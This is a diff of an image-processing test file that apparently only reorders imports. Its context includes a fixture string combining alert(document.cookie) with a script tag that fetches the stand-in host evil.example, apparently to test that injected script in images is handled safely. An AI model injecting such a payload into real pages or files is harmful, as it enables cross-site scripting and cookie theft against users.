@@ -1,11 +1,11 @@
 import { crc32 } from 'node:zlib'
 import sharp from 'sharp'
 import { describe, expect, test } from 'vitest'
-import { bareJpeg } from '../src/images/jpeg.ts'
-import { barePng } from '../src/images/png.ts'
 import { canvasJpeg } from '../../tests/photos/canvas.ts'
 import { insertSegments, segment } from '../../tests/photos/exif.ts'
 import { chunk, heldPhone, withWrongSum } from '../../tests/photos/pictures.ts'
+import { bareJpeg } from '../src/images/jpeg.ts'
+import { barePng } from '../src/images/png.ts'
 import { photograph } from './setup/photographs.ts'
 
 const script = Buffer.from('*/alert(document.cookie)/*<script>fetch("//evil.example")</script>')
